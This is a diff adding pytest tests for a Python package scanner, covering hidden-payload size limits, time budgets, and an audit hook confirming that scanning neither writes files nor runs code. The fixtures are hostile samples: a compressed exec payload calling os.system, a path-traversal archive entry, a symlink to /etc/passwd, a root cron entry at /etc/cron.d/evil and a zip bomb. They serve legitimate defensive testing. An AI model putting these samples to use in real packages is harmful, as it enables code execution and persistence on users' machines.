+    assert any("hidden payloads over 16 MiB" in message for message in messages(result, "source-too-large"))
+    assert "decoded-exec" in rules(result)
+
+
+def test_the_same_payload_revealed_many_times_is_analysed_once() -> None:
+    payload = base64.b64encode(zlib.compress(b"import os\nos.system('id')\n" + b"x = 1\n" * 650_000, 9)).decode()
+    source = "import base64, zlib\n" + f"exec(zlib.decompress(base64.b64decode('{payload}')))\n" * 40
+    with within(60):
+        result = scan_source(source)
+    assert not any("hidden payloads over" in message for message in messages(result, "source-too-large"))
+    assert "decoded-exec" in rules(result)
+
+
+# -- the time budget ---------------------------------------------------------------------------
+
+
+def large_wheel(files: int = 3000) -> bytes:
+    body = "import os\n\ndef f(x):\n    return os.path.join(x, 'y')\n" * 20
+    return wheel_of({f"demo/m{number}.py": body for number in range(files)})
+
+
+def test_time_budget_while_reading_ends_in_an_error() -> None:
+    limits = Limits(max_seconds=0.001)
+    with within(30):
+        _, result = scan_bytes(WHEEL, large_wheel(), limits)
+    assert result.verdict is Verdict.ERROR
+    assert result.error == "analysis took longer than 0.001 s"
+
+
+def test_time_budget_while_analysing_ends_in_an_error() -> None:
+    artifact = read_artifact_bytes(WHEEL, large_wheel())
+    assert artifact.fatal is None
+    with within(30):
+        result = scan_artifact(artifact, WHEEL, deadline=Deadline(0.01))
+    check_well_formed(result)
+    assert result.verdict is Verdict.ERROR
+    assert result.error == "analysis took longer than 0.01 s"
+
+
+def test_time_budget_is_checked_inside_one_huge_member() -> None:
+    # One 512 MiB member (as the last entry, so no later entry would check the clock).
+    compressor = zlib.compressobj(1, zlib.DEFLATED, 31)
+    parts = [compressor.compress(tar_info("demo-1.0/setup.py", size=0).tobuf(format=tarfile.USTAR_FORMAT))]
+    parts.append(compressor.compress(tar_info("demo-1.0/blob.bin", size=512 * MiB).tobuf(format=tarfile.USTAR_FORMAT)))
+    parts.extend(compressor.compress(ZEROS) for _ in range(512))
+    parts.append(compressor.compress(bytes(1024)) + compressor.flush())
+    started = time.monotonic()
+    with within(30):
+        artifact = read_artifact_bytes(SDIST, b"".join(parts), Limits(max_seconds=0.2))
+    assert artifact.fatal == "analysis took longer than 0.2 s"
+    assert time.monotonic() - started < 5
+
+
+# -- nothing written, nothing run --------------------------------------------------------------
+
+_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | getattr(os, "O_TRUNC", 0)
+_FORBIDDEN_EVENTS = {
+    "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.symlink", "os.link", "os.chmod", "os.chown",
+    "os.truncate", "os.utime", "shutil.copyfile", "shutil.move", "shutil.rmtree", "shutil.unpack_archive",
+    "tempfile.mkstemp", "tempfile.mkdtemp", "tarfile.extractall", "zipfile.extractall",
+    "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.startfile",
+    "socket.connect", "socket.getaddrinfo", "ctypes.dlopen",
+}
+
+
+class _Watch:
+    """Records, from an audit hook, every write to disk and every code object run while `on`."""
+
+    def __init__(self) -> None:
+        self.on = False
+        self.thread = threading.get_ident()
+        self.writes: list[tuple[object, ...]] = []
+        self.forbidden: list[str] = []
+        self.executed: list[str] = []
+
+    def __call__(self, event: str, args: tuple[object, ...]) -> None:
+        if not self.on or threading.get_ident() != self.thread:
+            return
+        if event == "open":
+            path, mode, flags = args
+            if (isinstance(mode, str) and any(c in mode for c in "wax+")) or (isinstance(flags, int) and flags & _WRITE_FLAGS):
+                self.writes.append(args)
+        elif event in _FORBIDDEN_EVENTS:
+            self.forbidden.append(event)
+        elif event == "exec":
+            # Lazy stdlib imports (codecs) run module code from files on disk; anything else is sample code.
+            code = args[0]
+            filename = getattr(code, "co_filename", "")
+            if not (filename.endswith(".py") and Path(filename).is_file()):
+                self.executed.append(filename)
+
+
+_WATCH = _Watch()
+sys.addaudithook(_WATCH)  # audit hooks cannot be removed; this one is inert unless a test turns it on
+
+
+@contextlib.contextmanager
+def watching() -> Iterator[_Watch]:
+    _WATCH.thread, _WATCH.writes, _WATCH.forbidden, _WATCH.executed = threading.get_ident(), [], [], []
+    _WATCH.on = True
+    try:
+        yield _WATCH
+    finally:
+        _WATCH.on = False
+
+
+def test_reading_and_scanning_write_nothing_and_run_nothing(tmp_path: Path, zip_bomb: bytes) -> None:
+    samples = {
+        WHEEL: wheel_of({"demo/__init__.py": HIDDEN, "demo/data.bin": b"\0" * 100, "../../escape.py": PAYLOAD, "demo/n.zip": zip_of([("a.py", PAYLOAD)])}),
+        SDIST: tar_of(
+            [
+                ("demo-1.0/setup.py", HIDDEN.encode()),
+                tar_info("demo-1.0/link", tarfile.SYMTYPE, linkname="/etc/passwd"),
+                tar_info("demo-1.0/fifo", tarfile.FIFOTYPE),
+                ("/etc/cron.d/evil", b"* * * * * root sh\n"),
+            ]
+        ),
+        "bomb-1.0-py3-none-any.whl": zip_bomb,
+        "demo-2.0.tar.gz": sdist_of({"demo/__init__.py": "(" * 1000})[:300],
+    }
+    for name, data in samples.items():
+        (tmp_path / name).write_bytes(data)
+    before = sorted(tmp_path.rglob("*"))
+    with watching() as watch:
+        for name in samples:
+            artifact = read_artifact(tmp_path / name)
+            check_well_formed(scan_artifact(artifact, name))
+    assert watch.writes == []
+    assert watch.forbidden == []
+    assert watch.executed == []
+    assert sorted(tmp_path.rglob("*")) == before
